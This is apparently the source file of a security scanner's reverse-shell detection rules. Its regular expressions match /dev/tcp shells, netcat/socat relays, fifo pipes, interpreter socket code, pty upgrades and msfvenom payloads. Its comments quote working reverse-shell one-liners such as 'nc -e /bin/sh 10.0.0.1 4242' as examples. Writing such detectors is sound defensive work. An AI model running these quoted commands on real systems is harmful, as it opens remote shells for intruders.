/**
 * Reverse and bind shells (T1059.004 and the interpreters of T1059): a shell, or a command loop, whose input and
 * output are a network connection, whatever program opens the socket.
 */
import { allOf, excerpt, interactiveShellIn, NETWORK_RELAYS, SENSITIVE_FILE, SHELL_NAMES, SHELL_PATH } from '../patterns.js';
import { baseName } from '../shell-parse.js';
import { invocationsOf, type Invocation, type Subject } from '../subject.js';
import type { Evidence } from '../types.js';
import type { Rule } from './rule.js';

/** Bash's /dev/tcp pseudo-device with a literal port (a `$port` variable is a scan, see suspicious-network). */
const DEV_TCP = /\/dev\/(?:tcp|udp)\/[^\s/]+\/\d+/;
/**
 * What turns a /dev/tcp connection into a shell: an interactive shell, standard input taken from it, a shell
 * reading it, a read-eval loop. `echo > /dev/tcp/h/p` and `exec 3<>/dev/tcp/redis/6379; echo PING >&3` are checks.
 */
const DUPLEX = /\s-i\b|\bwhile\s+read\b|\b0[<>]&\s*\d|\b(?:ba|da|z|k)?sh\s+(?:-\w+\s+)*<&\s*\d|[^0-9]<&\s*(\d+)\s+[^|;&]*>&\s*\1/;
/**
 * Scripting APIs that open a TCP connection or listener: Python, Perl, Ruby, PHP, Lua, Node, Java/JS (jrunscript),
 * Go, Julia, Tcl, awk's /inet special files, zsh's ztcp, PowerShell's TcpClient.
 */
const SOCKET_API = new RegExp([
  String.raw`socket\.socket\s*\(`, String.raw`\bsocket\.(?:tcp|bind|connect)\s*\(`, String.raw`require\s*\(?\s*["'](?:socket|net)["']`, String.raw`fsockopen\s*\(`,
  String.raw`\bsocket_(?:create|connect|bind)\s*\(`, String.raw`stream_socket_(?:client|server)\s*\(`, String.raw`(?:TCPSocket|TCPServer|Socket)\.(?:new|open|tcp)\b`,
  String.raw`IO::Socket`, String.raw`java\.net\.(?:Server)?Socket`, String.raw`/inet[46]?/(?:tcp|udp)/`, String.raw`\bnet\.(?:connect|createConnection|createServer|Dial|Listen)\s*\(`,
  String.raw`new\s+net\.Socket`, String.raw`\bztcp\b`, String.raw`(?:^|\s)-rsocket\b`, String.raw`\.connect\s*\(\s*\(\s*["'][\w.:-]+["']\s*,\s*\d+`,
  String.raw`\bsocket\s*\(\s*\w+\s*,\s*PF_INET`, String.raw`\bconnect\s*\(\s*["'][\w.:-]+["']\s*,\s*(?:\d+|parse\s*\()`, String.raw`\.connect\s*\(\s*\d+\s*,\s*["']`,
  String.raw`Net\.Sockets\.TCP(?:Client|Listener)`, String.raw`\bsocket\s+(?:-server\s+\S+\s+)?[\w.-]+\s+\d+`, String.raw`\bsocket\s*\(\s*(?:\w+\.)?AF_INET`,
  // The module imported under another name (`import socket as s; s.socket(s.AF_INET, ...)`), a listener bound to a port.
  String.raw`\.bind\s*\(\s*\(\s*["'][\w.:-]*["']\s*,\s*\d+`,
].join('|'));
/** Scripting APIs that run a shell or a received command, or wire descriptors to one. */
const PROCESS_API = /\/bin\/(?:ba|da|z)?sh\b|pty\.spawn|os\.dup2|dup2\s*\(|subprocess\.|\bPopen\s*\(|shell\s*=\s*True|child_process|\bpopen\b|ProcessBuilder|Runtime\.getRuntime\(\)\.exec|Process\.new|os\.execute|\bexec\s*[("]|\bsystem\b|\bspawn\s*\(|proc_open|passthru|shell_exec|getline|\bpipeline\s*\(|\bexec\.Command\b|\b(?:exec|eval)\s+\$\w+|\biex\b|Invoke-Expression|\bcmd\.exe\b|STDIN->fdopen|open\s*\(\s*STDIN/;

const devTcpShell: Rule = {
  name: 'reverse-shell-dev-tcp',
  category: 'reverse_shell',
  severity: 'critical',
  techniques: ['T1059.004'],
  match: (s) => {
    const socket = excerpt(s.text, DEV_TCP);
    // Sending a credential file down /dev/tcp is exfiltration; that rule reports it.
    if (socket === undefined || SENSITIVE_FILE.test(s.text)) return undefined;
    const wiring = excerpt(s.text, DUPLEX);
    return wiring === undefined ? undefined : { socket, wiring: wiring.trim() };
  },
};

/** `nc -e /bin/sh host port`, `socat ... exec:/bin/sh`, `socket -svp '/bin/sh -i' 53`, `rcat connect -s bash h p`. */
const relayRunsShell: Rule = {
  name: 'reverse-shell-relay-exec',
  category: 'reverse_shell',
  severity: 'critical',
  techniques: ['T1059.004'],
  match: (s): Evidence | undefined => {
    for (const inv of networkRelays(s)) {
      const shell = inv.args.find(isShellCommand);
      if (shell !== undefined) return { tool: inv.program, shell: shell.slice(0, 120) };
    }
    // The same inside another program's code: `require('child_process').exec('nc -e /bin/sh 10.0.0.1 4242')`.
    const nested = excerpt(s.text, /\b(?:nc|ncat|netcat)\b[^'"|;]*\s-[a-z]*[ec]\s+(?:\/\S*\/)?(?:ba|da|z)?sh\b/);
    return nested === undefined ? undefined : { command: nested };
  },
};

/** `mkfifo f; nc host port <f | /bin/sh >f`, `telnet h p | /bin/sh | telnet h p2`: a shell fed by a network client. */
const shellPipedToNetwork: Rule = {
  name: 'reverse-shell-pipe',
  category: 'reverse_shell',
  severity: 'critical',
  techniques: ['T1059.004'],
  match: (s): Evidence | undefined => {
    const relay = networkRelays(s).find((inv) => inv.args.length > 0);
    const shell = s.invocations.find((inv) => SHELL_NAMES.has(inv.program) && (inv.command.pipedFrom || inv.command.redirects.some((r) => r.op === '<')));
    if (relay && shell) return { tool: relay.program, shell: shell.path };
    // The same idiom nested in another program's argument (`sqlite3 /dev/null '.shell mkfifo ...'`).
    const fifo = allOf(s.text, /\bmk(?:fifo|nod)\b/, /\|\s*(?:\/bin\/)?(?:ba)?sh\b/, /\b(?:nc|ncat|netcat|telnet|s_client)\b/);
    return fifo === undefined ? undefined : { pipeline: fifo.join(' … ') };
  },
};

/** Inline interpreter code that opens a socket and hands it to a shell or command runner. */
const interpreterSocketShell: Rule = {
  name: 'reverse-shell-interpreter',
  category: 'reverse_shell',
  severity: 'critical',
  techniques: ['T1059.004', 'T1059.006'],
  match: (s) => {
    const socket = excerpt(s.text, SOCKET_API, 80);
    const process = excerpt(s.text, PROCESS_API, 80);
    if (socket === undefined || process === undefined || SENSITIVE_FILE.test(s.text)) return undefined;
    return { socketApi: socket, processApi: process };
  },
};

/**
 * `python -c 'import pty; pty.spawn("/bin/bash")'`, `script -qc /bin/bash /dev/null`: a full terminal made for a shell
 * that arrived without one, the step after catching a reverse shell.
 */
const terminalUpgrade: Rule = {
  name: 'shell-terminal-upgrade',
  category: 'reverse_shell',
  severity: 'high',
  techniques: ['T1059.004', 'T1059.006'],
  match: (s): Evidence | undefined => {
    const pty = excerpt(s.text, /pty\.spawn\s*\(\s*["'][^"']*sh["']|\(['"]pty['"]\)\.spawn\s*\(\s*["'][^"']*sh["']/);
    if (pty !== undefined) return { spawn: pty };
    // `socat FILE:\`tty\`,raw,echo=0 TCP:h:4444`: this terminal, raw, joined to a TCP peer (a full-TTY shell session).
    const tty = excerpt(s.text, /\bsocat\b.*\bFILE:[`$(]*tty[`)]*,raw\S*\s+TCP4?6?:\S+/i);
    if (tty !== undefined) return { spawn: tty };
    const script = invocationsOf(s, 'script').find((inv) => {
      const command = inv.args.find((_, i) => /^-[a-z]*c$|^--command$/.test(inv.args[i - 1] ?? ''));
      return command !== undefined && (SHELL_PATH.test(command) || SHELL_NAMES.has(baseName(command.split(/\s+/)[0]))) && interactiveShellIn(` ${command}`) !== undefined;
    });
    if (script) return { spawn: `script ${script.args.join(' ')}`.slice(0, 120) };
    // `script -q /dev/null`: a pseudo-terminal wanted, the session record thrown away.
    const blank = invocationsOf(s, 'script').find((inv) => inv.args.filter((a) => !a.startsWith('-'))[0] === '/dev/null' && !inv.args.some((a) => /^-[a-z]*c$|^--command$/.test(a)));
    return blank ? { spawn: `script ${blank.args.join(' ')}` } : undefined;
  },
};

/** `msfvenom -p linux/x64/shell_reverse_tcp LHOST=...`: a reverse-shell payload built on this host. */
const payloadGenerator: Rule = {
  name: 'reverse-shell-payload-built',
  category: 'reverse_shell',
  severity: 'high',
  techniques: ['T1059.004', 'T1587.001'],
  match: (s) => {
    const inv = invocationsOf(s, 'msfvenom', 'msfconsole', 'msfpc').find((i) => i.args.some((a) => /reverse|bind|meterpreter|LHOST=|LPORT=/i.test(a)));
    return inv ? { tool: inv.program, payload: inv.args.join(' ').slice(0, 160) } : undefined;
  },
};

/** Invocations of socket relays; openssl only as the `s_client` TLS client. */
export function networkRelays(s: Subject): Invocation[] {
  return invocationsOf(s, ...NETWORK_RELAYS).filter((inv) => inv.program !== 'openssl' || inv.args[0] === 's_client');
}

/** `/bin/sh`, `bash`, `sh -i`, `exec:/bin/bash,pty`: an argument that names a shell to run. */
function isShellCommand(arg: string): boolean {
  if (SHELL_PATH.test(arg)) return true;
  const first = arg.replace(/^(?:exec|system):/i, '').split(/[\s,]+/)[0];
  return SHELL_NAMES.has(baseName(first));
}

/** `xterm -display attacker:1`: a terminal drawn on a remote X server. */
const remoteXterm: Rule = {
  name: 'reverse-shell-remote-display',
  category: 'reverse_shell',
  severity: 'high',
  techniques: ['T1059.004'],
  match: (s) => {
    const found = allOf(s.text, /\bxterm\b/, /\s-display\s+[\w.-]*:\d+/);
    return found === undefined || /-display\s+(?:localhost|127\.0\.0\.1|):/.test(found[1]) ? undefined : { display: found[1].trim() };
  },
};

export const REVERSE_SHELL_RULES: readonly Rule[] = [devTcpShell, relayRunsShell, shellPipedToNetwork, interpreterSocketShell, remoteXterm, terminalUpgrade, payloadGenerator];
